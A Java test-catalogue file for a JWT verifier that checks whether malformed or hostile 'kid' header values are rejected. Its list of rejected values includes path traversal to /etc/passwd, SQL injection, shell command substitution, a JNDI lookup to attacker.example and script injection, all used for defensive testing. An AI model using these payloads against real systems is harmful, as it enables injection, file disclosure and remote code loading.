package org.muleentra.jwt.testkit.catalogue;

import static org.muleentra.jwt.testkit.catalogue.Refused.HEADER_MALFORMED;
import static org.muleentra.jwt.testkit.catalogue.Refused.KEY_UNKNOWN;
import static org.muleentra.jwt.testkit.catalogue.Refused.KID_MISSING;

import java.util.Arrays;
import java.util.Collections;
import java.util.Locale;

/** A kid is compared with those that the authority published, and is never a path, a query or an address. */
final class KeyIds {
  private KeyIds() {}

  static Chapter chapter() {
    Chapter chapter = new Chapter("kid");
    chapter
        .user(KID_MISSING, "missing", token -> token.withoutHeaderParameter("kid"))
        .header(HEADER_MALFORMED, "empty", "kid", "")
        .header(HEADER_MALFORMED, "null", "kid", null)
        .header(HEADER_MALFORMED, "a number", "kid", 7)
        .header(HEADER_MALFORMED, "true", "kid", true)
        .header(HEADER_MALFORMED, "an array", "kid", Collections.singletonList("x"))
        .header(HEADER_MALFORMED, "an object", "kid", Collections.singletonMap("kid", "x"))
        .header(HEADER_MALFORMED, "257 characters", "kid", Parts.repeated("k", 257))
        .header(HEADER_MALFORMED, "10,000 characters", "kid", Parts.repeated("k", 10_000))
        .header(KEY_UNKNOWN, "256 characters", "kid", Parts.repeated("k", 256));
    for (String kid : Arrays.asList("nobody", "../../../../etc/passwd", "/dev/null", "C:\\Windows\\win.ini", "file:///etc/passwd",
        "https://attacker.example/key", "//attacker.example/key", "' OR '1'='1", "x'; DROP TABLE keys;--", "$(id)", "`id`", "| id",
        "${jndi:ldap://attacker.example/a}", "${user.home}", "#[payload]", "<script>alert(1)</script>", "*", "%00", "\0", "a\r\nb: c",
        "\u202e", "\ud83d\ude00")) {
      chapter.header(KEY_UNKNOWN, "'" + printable(kid) + "'", "kid", kid);
    }
    chapter
        .token(KEY_UNKNOWN, "in another case", mint -> mint.userToken().kid(swapCase(mint.keys().current().kid())).sign())
        .token(KEY_UNKNOWN, "a space behind", mint -> mint.userToken().kid(mint.keys().current().kid() + " ").sign())
        .token(KEY_UNKNOWN, "a NUL behind", mint -> mint.userToken().kid(mint.keys().current().kid() + "\0").sign())
        .token(KEY_UNKNOWN, "a character short", mint -> mint.userToken().kid(mint.keys().current().kid().substring(1)).sign());
    return chapter;
  }

  private static String printable(String kid) {
    StringBuilder text = new StringBuilder();
    for (char c : kid.toCharArray()) {
      text.append(c >= ' ' && c < 127 ? String.valueOf(c) : String.format(Locale.ROOT, "\\u%04x", (int) c));
    }
    return text.toString();
  }

  private static String swapCase(String kid) {
    String upper = kid.toUpperCase(Locale.ROOT);
    return upper.equals(kid) ? kid.toLowerCase(Locale.ROOT) : upper;
  }
}
